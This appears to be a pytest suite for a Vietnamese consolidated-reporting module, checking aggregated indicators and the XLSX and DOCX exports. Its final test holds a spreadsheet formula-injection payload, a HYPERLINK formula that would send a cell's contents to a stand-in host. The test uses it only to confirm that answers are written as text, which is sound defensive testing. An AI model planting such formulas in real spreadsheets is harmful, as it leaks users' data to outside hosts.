"""The consolidated report: aggregated indicators, narrative by unit, completeness; the XLSX
and the DOCX opened and their tables checked."""

from __future__ import annotations

import io
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook

from caunoi.reporting.consolidated import consolidate, roman
from caunoi.reporting.outputs import write

pytestmark = pytest.mark.django_db


def test_indicators_aggregate_by_their_rule(filled: Any) -> None:
    data = consolidate(filled)
    by_code = {s.indicator.code: s for s in data.indicators}
    assert by_code["so-hop-dong"].aggregate() == 10  # sum
    assert by_code["ty-le"].aggregate() == 60  # average
    assert by_code["co-ke-hoach"].aggregate() == 1  # count of yes
    assert by_code["muc-do"].aggregate() == "Tốt: 2"
    assert by_code["so-hop-dong"].by("kind") == {"ministry": 6, "province": 4}
    assert [a.unit.code for a in by_code["tom-tat"].answers] == ["bo-y-te", "ha-noi"]


def test_the_xlsx_holds_every_figure(filled: Any) -> None:
    book = load_workbook(io.BytesIO(write(filled, "xlsx")))
    first = list(book["Tình hình gửi"].iter_rows(values_only=True))
    assert first[2][:4] == ("Tất cả đơn vị", 2, 2, 100.0)
    measures = {r[0]: r for r in book["Chỉ tiêu"].iter_rows(min_row=2, values_only=True)}
    assert measures["so-hop-dong"][5] == 10 and measures["ty-le"][5] == 60
    texts = list(book["Nội dung"].iter_rows(min_row=2, values_only=True))
    assert ("Bộ Y tế", "Bộ ban hành hướng dẫn.") in [(r[2], r[3]) for r in texts]
    assert all(r[3] != "nháp" for r in texts)


def test_the_docx_is_in_the_administrative_layout(filled: Any) -> None:
    doc = Document(io.BytesIO(write(filled, "docx")))
    header = doc.tables[0].rows[0].cells
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in header[1].text
    assert "Độc lập - Tự do - Hạnh phúc" in header[1].text
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "I. TÌNH HÌNH GỬI BÁO CÁO" in text and "II. TỔNG HỢP CÁC CHỈ TIÊU" in text
    assert "Có 2/2 đơn vị" in text and "100,0%" in text
    assert "Sở KH&CN Hà Nội: Hà Nội tổ chức hội thảo." in text
    measures = doc.tables[2]
    row = next(r for r in measures.rows if r.cells[0].text.startswith("Số hợp đồng"))
    assert row.cells[4].text == "10"


def test_sections_are_numbered_past_ten() -> None:
    assert [roman(n) for n in (1, 4, 9, 10, 14, 40)] == ["I", "IV", "IX", "X", "XIV", "XL"]


def test_text_answers_are_written_as_text_never_as_formulas(campaign: Any, other: Any) -> None:
    from reporting.conftest import send

    campaign.title_vi = "=1+1"
    campaign.save(update_fields=["title_vi"])
    hanoi = campaign.units.get(code="ha-noi").submissions.get(kind="report")
    payload = '=HYPERLINK("http://x/?"&B2,"Xem")'
    send(other, hanoi, {"tom-tat": payload, "so-hop-dong": 4})
    book = load_workbook(io.BytesIO(write(campaign, "xlsx")))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.data_type for c in cells if c.value == "=1+1"] == ["s"]
    answer = [c for c in cells if c.value == payload]
    assert answer and all(c.data_type == "s" for c in answer)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
